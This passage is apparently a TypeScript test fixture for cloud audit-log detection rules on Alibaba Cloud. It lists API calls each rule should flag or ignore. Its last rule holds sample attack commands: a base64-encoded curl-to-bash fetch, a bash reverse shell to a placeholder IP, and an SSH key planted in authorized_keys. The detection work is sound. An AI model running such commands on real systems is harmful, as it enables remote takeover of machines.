import { calls, times } from './written';
import type { ByHand, Stream } from './written';

/** One of each, again and again. */
const bursts = (count: number, seconds: number, streams: readonly Stream[]): Stream[] =>
  streams.map((stream) => times(count, seconds, stream));
const inRegions = (streams: readonly Stream[], ...regions: readonly string[]): Stream[] =>
  streams.map((stream) =>
    times(regions.length, 60, stream, (n) => ({ acsRegion: regions[n] ?? '' })),
  );

const COMPUTE = [
  ...calls('Ecs', 'RunInstances CreateInstance CreateAutoProvisioningGroup'),
  ...calls('Ecs', 'ModifyAutoProvisioningGroup CreateLaunchTemplate CreateLaunchTemplateVersion'),
  ...calls('Ecs', 'ModifyLaunchTemplateDefaultVersion CreateCapacityReservation'),
  ...calls('Ecs', 'CreateElasticityAssurance CreateDedicatedHostCluster AllocateDedicatedHosts'),
  ...calls('Ess', 'CreateScalingGroup CreateScalingConfiguration ModifyScalingConfiguration'),
  ...calls('Ess', 'CreateEciScalingConfiguration ModifyEciScalingConfiguration'),
  ...calls('Eci', 'CreateContainerGroup UpdateContainerGroup CreateVirtualNode'),
  ...calls('CS', 'CreateCluster CreateClusterNodePool AttachInstancesToNodePool'),
];
/** More of what is there already. */
const GROWTH = [
  ...calls('Ess', 'ModifyScalingGroup CreateScalingRule ModifyScalingRule ExecuteScalingRule'),
  ...calls('Ess', 'ScaleWithAdjustment CreateScheduledTask ModifyScheduledTask'),
  ...calls('CS', 'ModifyClusterNodePool ScaleClusterNodePool CreateAutoscalingConfig'),
  ...calls('sae', 'CreateApplication CreateJob UpdateJob RescaleApplication'),
];
const CREATION = [...COMPUTE, ...GROWTH, ...calls('Ecs', 'StartInstances StartInstance')];
const DELETION = [
  ...calls('Ecs', 'DeleteInstance DeleteInstances DeleteDisk DeleteSnapshot DeleteSnapshotGroup'),
  ...calls('Ecs', 'DeleteImage'),
  ...calls('Rds', 'DeleteDBInstance DestroyDBInstance DeleteDatabase DeleteBackup'),
  ...calls('polardb', 'DeleteDBCluster'),
  ...calls('Dds gpdb', 'DeleteDBInstance'),
  ...calls('R-kvstore', 'DestroyInstance'),
  ...calls('Oss', 'DeleteBucket'),
  ...calls('CS', 'DeleteCluster'),
];

/** Auto Scaling by its service-linked role, from wherever it is; and what the system does itself. */
/** A role by the name that a console gave it; the host of the service stands where it calls by itself. */
const roleOfAService = (sourceIpAddress: string) => ({
  sourceIpAddress,
  userIdentity: { type: 'assumed-role', userName: 'aliyunemrdefaultrole:emr' },
});

const AUTOSCALING = {
  sourceIpAddress: '47.88.1.2',
  userIdentity: { type: 'assumed-role', userName: 'AliyunServiceRoleForAutoScaling:ess' },
};
const SYSTEM = { userIdentity: { type: 'system', userName: 'ecs' } };

const OPEN = { SecurityIps: '0.0.0.0/0' };
const WEB_AS_TERRAFORM_CALLS = {
  'Permissions.1.IpProtocol': 'TCP',
  'Permissions.1.PortRange': '443/443',
  'Permissions.1.SourceCidrIp': '0.0.0.0/0',
  'Permissions.2.PortRange': '80/80',
  'Permissions.2.SourceCidrIp': '0.0.0.0/0',
};

const SSH_FROM_ANYWHERE = { SourceCidrIp: '0.0.0.0/0', PortRange: '22/22' };
/** As some serialisers write a slash. */
const ESCAPED = '{"SecurityIps":"0.0.0.0\\/0","SourceCidrIp":"0.0.0.0\\/0"}';
const NUMBERED = '{"SecurityIps":"128.0.0.0\\u002f1"}';
/** What a query sees of it is a beginning without an end. */
const PADDED = JSON.stringify({ Description: 'x'.repeat(2048), SourceCidrIp: '0.0.0.0/0' });

const withGpu = (stream: Stream): Stream =>
  stream.map((event) => ({
    ...event,
    requestParameterJson: '{"InstanceTypes":["ecs.gn7i-c8g1.2xlarge"]}',
  }));

/** Servers, networks, buckets and databases. */
export const workloads: Readonly<Record<string, ByHand>> = {
  'bucket-permission-changed': {
    from: 'CIS 2.14; API list of OSS',
    hears: calls(
      'Oss',
      'PutBucketAcl PutObjectAcl PutBucketPublicAccessBlock DeleteBucketPublicAccessBlock',
    ),
    passes: [...calls('Oss', 'GetBucketAcl'), ...calls('Elsewhere', 'PutBucketAcl')],
  },
  'cloud-firewall-changed': {
    from: 'CIS 2.11, its query',
    hears: calls(
      'Cloudfw',
      'CreateVpcFirewallControlPolicy DeleteVpcFirewallControlPolicy ModifyVpcFirewallControlPolicy',
    ),
    passes: [
      ...calls('Cloudfw', 'DescribeVpcFirewallControlPolicy'),
      ...calls('Vpc', 'CreateVpcFirewallControlPolicy'),
    ],
  },
  'database-audit-off': {
    from: 'landing zone, rds_sql_audit; API pages of the other databases',
    hears: [
      ...calls('Rds RDS gpdb', 'ModifySQLCollectorPolicy', { SQLCollectorStatus: 'Disabled' }),
      ...calls('Rds', 'ModifyActionEventPolicy', { EnableEventLog: 'False' }),
      ...calls('Dds', 'ModifyAuditPolicy', { AuditStatus: 'disabled' }),
      ...calls('R-kvstore', 'ModifyAuditLogConfig', { DbAudit: 'false' }),
      ...calls('polardb', 'ModifyDBClusterAuditLogCollector', { CollectorStatus: 'Disabled' }),
    ],
    passes: [
      ...calls('Rds', 'ModifySQLCollectorPolicy', { SQLCollectorStatus: 'Enable' }),
      ...calls('Rds', 'ModifySQLCollectorRetention', { SQLCollectorStatus: 'Disabled' }),
      ...calls('Rds', 'ModifyActionEventPolicy', { EnableEventLog: 'True' }),
      ...calls('Dds', 'ModifyAuditPolicy', { AuditStatus: 'enable' }),
      ...calls('R-kvstore', 'ModifyAuditLogConfig', { DbAudit: 'true' }),
      ...calls('polardb', 'ModifyDBClusterAuditLogCollector', { CollectorStatus: 'Enable' }),
    ],
  },
  'database-changed': {
    from: 'CIS 2.15, its query; API list of RDS',
    hears: [
      ...calls('Rds', 'ModifyDBInstanceTDE AllocateInstancePublicConnection ModifyBackupPolicy'),
      ...calls('Rds', 'ModifyDBInstanceConnectionString SwitchDBInstanceNetType DeleteBackup'),
      ...calls('Rds', 'ModifySecurityIps ModifySecurityGroupConfiguration ModifyDBInstanceSpec'),
      ...calls('Rds', 'MigrateToOtherZone ModifyHASwitchConfig ModifyDBInstanceSSL'),
      ...calls('Rds', 'ModifyDBInstanceDeletionProtection ModifySQLCollectorPolicy'),
    ],
    passes: [...calls('Rds', 'DescribeDBInstances'), ...calls('Dds', 'ModifySecurityIps')],
  },
  'database-ssl-off': {
    from: 'landing zone, rds_ssl_config',
    hears: calls('Rds', 'ModifyDBInstanceSSL', { SSLEnabled: '0' }),
    passes: [
      ...calls('Rds', 'ModifyDBInstanceSSL', { SSLEnabled: '1' }),
      ...calls('Rds', 'DescribeDBInstanceSSL', { SSLEnabled: '0' }),
    ],
  },
  'firewall-off': {
    from: 'landing zone, cfw_basic_rule_off and cfw_assets_protec_off; API list of Cloud Firewall',
    hears: calls('Cloudfw', 'ModifyDefaultIPSConfig PutDisableFwSwitch PutDisableAllFwSwitch'),
    passes: [
      ...calls('Cloudfw', 'PutEnableFwSwitch DescribeDefaultIPSConfig'),
      ...calls('Vpc', 'PutDisableFwSwitch'),
    ],
  },
  'flow-log-off': {
    from: 'landing zone, vpc_flowlog_off',
    hears: calls('Vpc', 'DeactiveFlowLog DeleteFlowLog'),
    passes: [...calls('Vpc', 'ActiveFlowLog CreateFlowLog'), ...calls('Cbn', 'DeleteFlowLog')],
  },
  'instance-access-added': {
    from: 'API list of ECS',
    hears: [
      ...calls('Ecs', 'ImportKeyPair AttachKeyPair AttachInstanceRamRole'),
      ...calls('Ecs', 'ModifyInstanceVncPasswd', { InstanceId: 'i-1' }),
      ...calls('Ecs', 'ModifyInstanceAttribute', { InstanceId: 'i-1', UserData: 'IyEvYmluL3No' }),
      ...calls('Ecs', 'ModifyInstanceAttribute', { InstanceId: 'i-1', Password: '******' }),
    ],
    passes: [
      ...calls('Ecs', 'ModifyInstanceAttribute', { InstanceId: 'i-1', InstanceName: 'password' }),
      ...calls('Ecs', 'DetachKeyPair'),
      ...calls('SWAS-OPEN', 'ImportKeyPair'),
    ],
  },
  'instance-protection-off': {
    from: 'landing zone, ecs_release_protec_off',
    hears: calls('Ecs', 'ModifyInstanceAttribute', { DeletionProtection: 'false' }),
    passes: [
      ...calls('Ecs', 'ModifyInstanceAttribute', { DeletionProtection: 'true' }),
      ...calls('Ecs', 'ModifyInstanceAttribute', { Description: 'false' }),
    ],
  },
  'security-group-changed': {
    from: 'CIS 2.22, its query; landing zone, securitygroup_change; API list of ECS',
    hears: [
      ...calls('Ecs', 'CreateSecurityGroup DeleteSecurityGroup ModifySecurityGroupPolicy'),
      ...calls('Ecs', 'AuthorizeSecurityGroup AuthorizeSecurityGroupEgress'),
      ...calls('Ecs', 'RevokeSecurityGroup RevokeSecurityGroupEgress'),
      ...calls('Ecs', 'ModifySecurityGroupRule ModifySecurityGroupEgressRule'),
      ...calls('Ecs', 'JoinSecurityGroup LeaveSecurityGroup ConfigureSecurityGroupPermissions'),
    ],
    passes: [...calls('Ecs', 'DescribeSecurityGroups'), ...calls('Ens', 'CreateSecurityGroup')],
  },
  'security-group-egress-opened': {
    from: 'API pages of AuthorizeSecurityGroupEgress and ModifySecurityGroupEgressRule',
    hears: [
      ...calls('Ecs', 'AuthorizeSecurityGroupEgress ModifySecurityGroupEgressRule', {
        DestCidrIp: '0.0.0.0/0',
        PortRange: '1/65535',
      }),
      ...calls('Ecs', 'AuthorizeSecurityGroupEgress', { 'Permissions.1.Ipv6DestCidrIp': '::/0' }),
    ],
    passes: [
      ...calls('Ecs', 'AuthorizeSecurityGroupEgress', { DestCidrIp: '10.0.0.0/8' }),
      ...calls('Ecs', 'RevokeSecurityGroupEgress', { DestCidrIp: '0.0.0.0/0' }),
    ],
  },
  'unencrypted-disk-created': {
    from: 'landing zone, ecs_disk_encry_detc; API page of CreateDisk',
    hears: calls('Ecs', 'CreateDisk CreateDisks', { Encrypted: 'false' }),
    passes: [
      ...calls('Ecs', 'CreateDisk', { Encrypted: 'true' }),
      ...calls('Ecs', 'CreateDisk', { DiskName: 'false' }),
      ...calls('Ecs', 'AttachDisk', { Encrypted: 'false' }),
    ],
  },
  'web-lock-off': {
    from: 'landing zone, sas_webshell_unbind: the service is aegis; API list of Security Center',
    hears: calls('aegis Sas', 'ModifyWebLockUnbind', { Uuid: 'example' }),
    passes: [...calls('Sas', 'ModifyWebLockStart'), ...calls('Ecs', 'ModifyWebLockUnbind')],
  },
  'bucket-deleted': {
    from: 'OSS, sample events (doc-detail 293590) and its API list',
    hears: calls('Oss', 'DeleteBucket'),
    passes: [...calls('Oss', 'PutBucket PutBucketVersioning'), ...calls('Ots', 'DeleteBucket')],
  },
  'bucket-opened': {
    from: 'CIS 2.14; header x-oss-acl of the API pages of OSS; page on bucket policies',
    hears: [
      ...calls('Oss', 'PutBucketAcl PutObjectAcl PutBucket', { 'x-oss-acl': 'public-read' }),
      ...calls('Oss', 'PutBucketAcl', { 'x-oss-acl': 'public-read-write' }),
      ...calls('Oss', 'PutBucketPolicy PutAccessPointPolicy', {
        Body: '{"Statement":[{"Effect":"Allow","Principal":["*"],"Action":["oss:GetObject"]}]}',
      }),
    ],
    passes: [
      ...calls('Oss', 'PutBucketAcl', { 'x-oss-acl': 'private' }),
      ...calls('Oss', 'GetBucketAcl', { 'x-oss-acl': 'public-read' }),
      ...calls('Oss', 'PutBucketPolicy', {
        Body: '{"Statement":[{"Effect":"Deny","Principal":["*"],"Action":["oss:*"]}]}',
      }),
      ...calls('Oss', 'PutBucketPolicy', {
        Body: '{"Statement":[{"Effect":"Allow","Principal":["1234567890123456"],"Action":["*"]}]}',
      }),
    ],
  },
  'bucket-policy-changed': {
    from: 'CIS 2.21, its query; API list of OSS',
    hears: [
      ...calls('Oss', 'PutBucketPolicy PutBucketLifecycle PutBucketCors PutBucketEncryption'),
      ...calls('Oss', 'DeleteBucketPolicy DeleteBucketLifecycle DeleteBucketCors'),
      ...calls('Oss', 'PutBucketWebsite DeleteBucketReplication'),
      ...calls('Oss', 'PutBucketEncryption', {
        SSEAlgorithm: 'KMS',
        KMSMasterKeyID: 'acs:kms:ap-southeast-1:1999999999999999:key/key-x',
      }),
      ...calls('Oss', 'PutBucketLifecycle', { Prefix: '', Days: '1', Status: 'Enabled' }),
      ...calls('Oss', 'PutBucketLifecycle', {
        LifecycleConfiguration: {
          Rule: { Expiration: { Days: 365 }, NoncurrentVersionExpiration: { NoncurrentDays: 7 } },
        },
      }),
      ...calls('Oss', 'PutBucketLifecycle', {
        LifecycleConfiguration: {
          Rule: { Days: 90, Expiration: { CreatedBeforeDate: '2026-01-01T00:00:00.000Z' } },
        },
      }),
      ...calls('Oss', 'PutBucketCors', {
        CORSConfiguration: { CORSRule: { AllowedOrigin: '*', AllowedMethod: 'GET' } },
      }),
      ...calls('Oss', 'PutBucketCors', {
        CORSConfiguration: {
          CORSRule: [{ AllowedOrigin: 'https://a.example' }, { AllowedOrigin: ['b', 'https://*'] }],
        },
      }),
      ...calls('Oss', 'PutBucketCors', {
        Body: '<AllowedOrigin>https://a.example</AllowedOrigin>',
      }),
    ],
    passes: [
      ...calls('Oss', 'PutBucketLifecycle', { Prefix: 'tmp/', Days: '30', Status: 'Enabled' }),
      ...calls('Oss', 'PutBucketLifecycle', {
        LifecycleConfiguration: { Rule: { Expiration: { Days: 180 } } },
      }),
      ...calls('Oss', 'PutBucketCors', {
        CORSConfiguration: { CORSRule: { AllowedOrigin: 'https://a.example', AllowedHeader: '*' } },
      }),
      ...calls('Oss', 'PutBucketCors', {
        CORSConfiguration: {
          CORSRule: [{ AllowedHeader: ['*'], AllowedOrigin: ['https://a', 'https://b'] }],
        },
      }),
      ...calls('Oss', 'PutBucketEncryption', { SSEAlgorithm: 'AES256' }),
      ...calls('Oss', 'PutBucketReferer', { RefererList: '*.example.com' }),
      ...calls('Oss', 'GetBucketPolicy'),
      ...calls('Elsewhere', 'PutBucketPolicy'),
    ],
  },
  'bucket-protection-off': {
    from: 'API list of OSS; page on versioning (Enabled, Suspended)',
    hears: [
      ...calls('Oss', 'PutBucketVersioning', { Status: 'Suspended' }),
      ...calls('Oss', 'PutBucketVersioning', {}, { requestParameterJson: '' }),
      ...calls('Oss', 'DeleteBucketEncryption DeleteBucketLogging AbortBucketWorm'),
      ...calls('Oss', 'DeleteBucketPublicAccessBlock'),
    ],
    passes: [
      ...calls('Oss', 'PutBucketVersioning', { Status: 'Enabled' }),
      ...calls('Oss', 'PutBucketLogging GetBucketEncryption'),
    ],
  },
  'bucket-copied-out': {
    from: 'API list of OSS',
    hears: calls('Oss', 'PutBucketReplication CreateAccessPoint', { bucketName: 'shop' }),
    passes: [
      ...calls('Oss', 'GetBucketReplication DeleteAccessPoint'),
      ...calls('NAS', 'CreateAccessPoint'),
    ],
  },
  'database-copied-out': {
    from: 'API pages of DTS (2020-01-01)',
    hears: [
      ...calls('Dts', 'ConfigureDtsJob', {
        DestinationEndpointInstanceType: 'other',
        DestinationEndpointIP: '203.0.113.66',
      }),
      ...calls('dts', 'ConfigureDtsJob', { DestinationEndpointOwnerID: 1987654321098765 }),
      ...calls('Dts', 'ConfigureMigrationJob', {
        'DestinationEndpoint.InstanceType': 'LocalInstance',
        'DestinationEndpoint.IP': '203.0.113.66',
      }),
      ...calls('Dts', 'ConfigureSynchronizationJob', { 'DestinationEndpoint.IP': '203.0.113.66' }),
      ...calls('Dts', 'ModifyDtsJobEndpoint', { Endpoint: 'Destination' }),
    ],
    passes: [
      ...calls('Dts', 'ConfigureDtsJob', {
        DestinationEndpointInstanceType: 'RDS',
        DestinationEndpointInstanceID: 'rm-2',
      }),
      // Where it comes from says nothing of where it goes.
      ...calls('Dts', 'ConfigureDtsJob', {
        SourceEndpointInstanceType: 'other',
        SourceEndpointIP: '203.0.113.66',
        DestinationEndpointInstanceType: 'PolarDB',
        DestinationEndpointOwnerID: '',
      }),
      ...calls('Dts', 'DescribeDtsJobs StartDtsJob', { DestinationEndpointIP: '203.0.113.66' }),
    ],
  },
  'creation-burst': {
    from: 'API lists of ECS, ECI, Auto Scaling and Container Service',
    hears: bursts(10, 60, CREATION),
    passes: [
      ...bursts(9, 60, calls('Ecs', 'RunInstances')),
      ...bursts(10, 101, calls('Ecs', 'RunInstances')),
      ...bursts(20, 10, calls('Ecs', 'DescribeInstances')),
      ...bursts(20, 10, calls('Rds', 'CreateInstance')),
      ...bursts(20, 10, calls('Ecs', 'RunInstances', {}, AUTOSCALING)),
    ],
  },
  'creation-in-many-regions': {
    from: 'API lists of ECS, ECI, Auto Scaling and Container Service',
    hears: inRegions(CREATION, 'ap-southeast-1', 'us-west-1', 'eu-central-1'),
    passes: [
      ...inRegions(calls('Ecs', 'RunInstances'), 'us-west-1', 'eu-central-1', 'us-west-1'),
      ...inRegions(calls('Ecs', 'StopInstances'), 'us-west-1', 'eu-central-1', 'me-east-1'),
    ],
  },
  'compute-started': {
    from: 'API lists of ECS, ECI, Auto Scaling and Container Service',
    hears: COMPUTE,
    passes: [
      ...GROWTH,
      ...calls('Ecs', 'DescribeInstances StartInstances'),
      ...calls('Ecs', 'RunInstances', {}, AUTOSCALING),
      ...calls('Rds', 'CreateInstance'),
    ],
  },
  'large-compute-started': {
    from: 'API pages of RunInstances (Amount), CreateAutoProvisioningGroup (TotalTargetCapacity), ModifyScalingGroup (MaxSize) and the like; list of instance families',
    hears: [
      ...calls('Ecs', 'RunInstances', { InstanceType: 'ecs.c7.32xlarge', Amount: 100 }),
      ...calls('Ecs', 'RunInstances CreateInstance', { InstanceType: 'ecs.c7.8xlarge', Amount: 1 }),
      ...calls('Ecs', 'RunInstances', { InstanceType: 'ecs.c7.large', Amount: '10' }),
      ...calls('Ecs', 'RunInstances', {}, { requestParameterJson: '{"InstanceType":"ecs.c7.la' }),
      ...calls('Ecs', 'CreateAutoProvisioningGroup ModifyAutoProvisioningGroup', {
        TotalTargetCapacity: '40',
      }),
      ...calls('Ecs', 'CreateLaunchTemplate CreateLaunchTemplateVersion', {
        InstanceType: 'ecs.ebmc7.32xlarge',
      }),
      ...calls('Ecs', 'ModifyInstanceSpec ModifyPrepayInstanceSpec', {
        InstanceType: 'ecs.g7.16xlarge',
      }),
      ...calls('Ecs', 'ModifyLaunchTemplateDefaultVersion CreateCapacityReservation', {
        InstanceType: 'ecs.g7.16xlarge',
      }),
      ...calls('Ecs', 'CreateElasticityAssurance CreateDedicatedHostCluster', { Amount: 20 }),
      ...calls('Ecs', 'AllocateDedicatedHosts', { Amount: 20 }),
      ...calls('Ess', 'CreateScalingGroup ModifyScalingGroup', { MaxSize: 150 }),
      ...calls('Ess', 'CreateScalingConfiguration ModifyScalingConfiguration', {
        'InstanceTypes.1': 'ecs.c7.16xlarge',
      }),
      ...calls('Ess', 'CreateEciScalingConfiguration ModifyEciScalingConfiguration', {
        'InstanceTypes.1': 'ecs.c7.16xlarge',
      }),
      ...calls('Ess', 'CreateScalingRule ModifyScalingRule ScaleWithAdjustment', {
        AdjustmentValue: 30,
      }),
      ...calls('Ess', 'CreateScheduledTask ModifyScheduledTask', { DesiredCapacity: 30 }),
      ...calls('Ess', 'ExecuteScalingRule', { DesiredCapacity: 30 }),
      ...calls('Eci', 'CreateContainerGroup UpdateContainerGroup CreateVirtualNode', {
        InstanceType: 'ecs.c7.16xlarge',
      }),
      ...calls('CS', 'CreateCluster CreateClusterNodePool ModifyClusterNodePool', {
        body: '{"scaling_group":{"desired_size":20}}',
      }),
      ...calls('CS', 'ScaleClusterNodePool CreateAutoscalingConfig AttachInstancesToNodePool', {
        count: 20,
      }),
      ...calls('pai-dlc pai-dsw PaiStudio eas eflo-controller EHPC', 'CreateX', {
        InstanceType: 'ecs.c7.32xlarge',
      }),
      ...calls('SWAS-OPEN', 'CreateInstances', { Amount: 30 }),
      ...calls('FC FC-Open', 'PutX', { replicas: 30 }),
      ...calls('sae', 'CreateApplication CreateJob UpdateJob RescaleApplication', {
        Replicas: 40,
      }),
    ],
    passes: [
      ...calls('sae', 'CreateApplication RescaleApplication', { Replicas: 4 }),
      ...calls('sae', 'DeployApplication RestartApplication', { Replicas: 40 }),
      ...calls('Ecs', 'RunInstances', { InstanceType: 'ecs.c7.xlarge', Amount: 2 }),
      ...calls('Ecs', 'ModifyInstanceSpec', { InstanceType: 'ecs.c7.2xlarge' }),
      // A limit is not reached by itself.
      ...calls('Ess', 'CreateScalingGroup ModifyScalingGroup', { MaxSize: 50 }),
      ...calls('CS', 'ScaleClusterNodePool', { count: 4 }),
      ...calls('Ecs', 'DescribeInstanceTypes', { InstanceType: 'ecs.c7.32xlarge' }),
      ...calls('Ecs', 'RunInstances', { InstanceType: 'ecs.c7.16xlarge' }, AUTOSCALING),
    ],
  },
  'database-account-changed': {
    from: 'API lists of RDS, PolarDB, MongoDB, Redis, AnalyticDB; of BatchGrantAccountPrivilege none was found',
    hears: [
      ...calls('Rds polardb Dds R-kvstore gpdb adb', 'CreateAccount ResetAccountPassword'),
      ...calls('Rds', 'ResetAccount GrantAccountPrivilege BatchGrantAccountPrivilege'),
    ],
    passes: [...calls('Rds', 'DescribeAccounts'), ...calls('OceanBasePro', 'CreateAccount')],
  },
  'database-deleted': {
    from: 'landing zone, rds_instance_del; API lists of the other databases',
    hears: [
      ...calls('Rds', 'DeleteDBInstance DestroyDBInstance Release'),
      ...calls('Rds', 'DeleteDBInstance', { DBInstanceId: 'rm-t4n1rr-shop' }),
      ...calls('Dds gpdb clickhouse polardbx', 'DeleteDBInstance'),
      ...calls('polardb adb', 'DeleteDBCluster'),
      ...calls('R-kvstore', 'DestroyInstance'),
    ],
    passes: [
      ...calls('Rds', 'StopDBInstance'),
      ...calls('Ens', 'DeleteDBInstance'),
      // Read-only instances hold a copy.
      ...calls('Rds', 'DeleteDBInstance', { DBInstanceId: 'rr-t4n1replica' }),
    ],
  },
  'database-opened': {
    from: 'landing zone, rds_access_whitelist; API pages of the white lists of each database',
    hears: [
      ...[
        '0.0.0.0/0',
        '10.0.0.0/8,0.0.0.0',
        '::/0',
        '0.0.0.0/1,128.0.0.0/1',
        '0.0.0.0/00',
        '47.0.0.0/8',
      ].flatMap((SecurityIps) => calls('Rds', 'ModifySecurityIps', { SecurityIps })),
      ...[ESCAPED, NUMBERED].flatMap((requestParameterJson) =>
        calls('Rds', 'ModifySecurityIps', {}, { requestParameterJson }),
      ),
      ...calls('Dds R-kvstore gpdb polardbx OceanBasePro', 'ModifySecurityIps', OPEN),
      ...calls('Rds', 'ModifyWhitelistTemplate', { IpWhitelist: '0.0.0.0/0' }),
      ...calls('Rds', 'CreateDBInstance', { SecurityIPList: '0.0.0.0/0' }),
      ...calls('polardb', 'ModifyDBClusterAccessWhitelist', OPEN),
      ...calls('adb', 'ModifyDBClusterAccessWhiteList', OPEN),
      ...calls('clickhouse', 'ModifySecurityIPList UpdateWhitelistTemplate', OPEN),
      ...calls('HBase', 'ModifyIpWhitelist', OPEN),
      ...calls('hitsdb', 'UpdateInstanceIpWhiteList', OPEN),
      ...calls('Drds', 'ModifyDrdsIpWhiteList', OPEN),
      ...calls('elasticsearch', 'ModifyWhiteIps UpdatePublicWhiteIps UpdateWhiteIps', OPEN),
      ...calls('elasticsearch', 'UpdateKibanaWhiteIps', OPEN),
      ...calls('alikafka', 'UpdateAllowedIp', OPEN),
    ],
    passes: [
      ...calls('Rds', 'ModifySecurityIps', { SecurityIps: '10.0.0.0/8' }),
      ...calls('Rds', 'ModifySecurityIps', { SecurityIps: '172.16.0.0/12,192.168.0.0/16' }),
      ...calls('Rds', 'ModifySecurityIps', { SecurityIps: '203.0.113.0/24' }),
      // No number of a character.
      ...calls('Rds', 'ModifySecurityIps', { SecurityIps: '10.0.0.0/8', Name: 'u002q' }),
      ...calls('Rds', 'DescribeDBInstanceIPArrayList', { SecurityIps: '0.0.0.0/0' }),
    ],
  },
  'deletion-burst': {
    from: 'landing zone, esc_release and ecs_disk_release; API lists of the databases, OSS and Container Service',
    hears: bursts(5, 60, DELETION),
    passes: [
      ...bursts(4, 60, calls('Ecs', 'DeleteInstance')),
      ...bursts(5, 226, calls('Ecs', 'DeleteInstance')),
      ...bursts(9, 60, calls('Slb', 'DeleteInstance')),
      ...bursts(9, 60, calls('Ecs', 'StopInstances')),
      ...bursts(9, 60, calls('Ecs', 'DeleteDisk', {}, SYSTEM)),
    ],
  },
  'mass-deletion': {
    from: 'the lists of deletion-burst',
    hears: bursts(20, 40, DELETION),
    passes: [
      ...bursts(19, 40, calls('Ecs', 'DeleteInstance')),
      ...bursts(30, 20, calls('Ecs', 'DeleteDisk', {}, SYSTEM)),
    ],
  },
  'disk-copied-out': {
    from: 'API list of ECS',
    hears: calls(
      'Ecs',
      'ModifyImageSharePermission ModifyImageShareGroupPermission ExportImage ExportSnapshot CopySnapshot CopyImage',
    ),
    passes: [...calls('Ecs', 'CreateImage'), ...calls('Ens', 'ExportImage')],
  },
  'disk-reset': {
    from: 'landing zone, ecs_disk_reinit and ecs_auto_snapshot_policy; API list of ECS',
    hears: calls(
      'Ecs',
      'ReInitDisk ResetDisk ResetDisks ReplaceSystemDisk CancelAutoSnapshotPolicy DeleteAutoSnapshotPolicy',
    ),
    passes: [...calls('Ecs', 'ApplyAutoSnapshotPolicy'), ...calls('Ens', 'ReInitDisk')],
  },
  'gpu-instance-created': {
    from: 'instance families of ECS: gn, vgn, sgn, ebmgn; API pages of Function Compute (gpuConfig) and PAI',
    hears: [
      ...['ecs.gn7i-c8g1.2xlarge', 'ecs.ebmgn7.26xlarge', 'ecs.vgn6i-m4.xlarge'].flatMap(
        (InstanceType) => calls('Ecs', 'RunInstances CreateInstance', { InstanceType }),
      ),
      ...[...COMPUTE, ...GROWTH].map(withGpu),
      ...calls('Ecs', 'ModifyInstanceSpec ModifyPrepayInstanceSpec').map(withGpu),
      ...calls('pai-dlc pai-dsw PaiStudio eas eflo-controller EHPC SWAS-OPEN', 'CreateX').map(
        withGpu,
      ),
      ...calls('FC FC-Open', 'CreateFunction UpdateFunction', {
        body: '{"gpuConfig":{"gpuType":"fc.gpu.tesla.1","gpuMemorySize":16384}}',
      }),
    ],
    passes: [
      ...calls('Ecs', 'RunInstances', { InstanceType: 'ecs.g7.large' }),
      ...calls('Ecs', 'DescribeInstanceTypes', { InstanceType: 'ecs.gn7i-c8g1.2xlarge' }),
      ...calls('FC', 'CreateFunction', { body: '{"cpu":1,"memorySize":512}' }),
    ],
  },
  'network-exposed': {
    from: 'API lists of VPC and ECS',
    hears: [
      ...calls('Vpc', 'AllocateEipAddress AssociateEipAddress CreateNatGateway CreateVpnGateway'),
      ...calls('Vpc', 'CreateForwardEntry CreateSnatEntry UpdateNetworkAclEntries'),
      ...calls('Vpc', 'AllocateEipAddressPro AllocateEipSegmentAddress AssociateEipAddressBatch'),
      ...calls('Vpc', 'CreateFullNatEntry EnableVpcIpv4Gateway CreateIpv6Gateway'),
      ...calls('Vpc', 'AllocateIpv6InternetBandwidth'),
      ...calls('Ecs', 'AllocatePublicIpAddress'),
      ...calls('Slb', 'CreateLoadBalancer', { AddressType: 'internet' }),
      ...calls('Alb Nlb', 'CreateLoadBalancer UpdateLoadBalancerAddressTypeConfig', {
        AddressType: 'Internet',
      }),
    ],
    passes: [
      ...calls('Slb', 'CreateLoadBalancer', { AddressType: 'intranet' }),
      ...calls('Alb Nlb', 'CreateLoadBalancer', { AddressType: 'Intranet' }),
      ...calls('Vpc', 'ReleaseEipAddress'),
      ...calls('Ens', 'CreateNatGateway'),
    ],
  },
  'network-joined': {
    from: 'API list of VPC',
    hears: [
      ...calls('Vpc', 'CreateVpnConnection CreateVpnAttachment CreateCustomerGateway'),
      ...calls('Vpc', 'CreateSslVpnServer CreateSslVpnClientCert CreateIpsecServer'),
      ...calls('Vpc', 'CreateTrafficMirrorFilter CreateTrafficMirrorSession'),
      ...calls('Vpc', 'AddSourcesToTrafficMirrorSession GrantInstanceToCen GrantInstanceToVbr'),
      ...calls('Vpc', 'CreateRouterInterface'),
    ],
    passes: [...calls('Vpc', 'DescribeVpnConnections'), ...calls('Ens', 'CreateVpnConnection')],
  },
  'remote-command-on-many': {
    from: 'API pages of RunCommand, InvokeCommand and SendFile: InstanceId.N',
    hears: [
      ...calls('Ecs', 'RunCommand InvokeCommand SendFile', {
        'InstanceId.1': 'i-1',
        'InstanceId.2': 'i-2',
        'InstanceId.3': 'i-3',
      }),
      ...calls('Ecs', 'InvokeCommand', { InstanceId: '["i-1","i-2","i-3"]' }),
    ],
    passes: [
      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.2': 'i-2' }),
      ...calls('Ecs', 'RunCommand', { 'InstanceId.1': 'i-1' }),
      ...calls('Ecs', 'DescribeInvocations', { 'InstanceId.1': 'i-1', 'InstanceId.3': 'i-3' }),
    ],
  },
  'remote-command-run': {
    from: 'API list of ECS, Cloud Assistant',
    hears: calls('Ecs', 'RunCommand InvokeCommand'),
    passes: [...calls('Ecs', 'DescribeInvocations'), ...calls('Emr', 'RunCommand')],
  },
  'remote-command-suspicious': {
    from: 'API page of RunCommand: CommandContent is base64 unless ContentEncoding is PlainText; the base64 was made by the shell',
    hears: [
      // curl -s http://198.51.100.7/x | bash
      ...calls('Ecs', 'RunCommand CreateCommand', {
        CommandContent: 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBiYXNo',
      }),
      // sh -c "wget -q 198.51.100.7/x"
      ...calls('Ecs', 'RunCommand', { CommandContent: 'c2ggLWMgIndnZXQgLXEgMTk4LjUxLjEwMC43L3gi' }),
      ...calls('Ecs', 'RunCommand', {
        ContentEncoding: 'PlainText',
        CommandContent: 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
      }),
      ...calls('Ecs', 'SendFile', { Content: 'ssh-ed25519 AAAA', Name: 'authorized_keys' }),
      ...calls('Ecs', 'InvokeCommand', { Parameters: '{"from":"http://198.51.100.7/x"}' }),
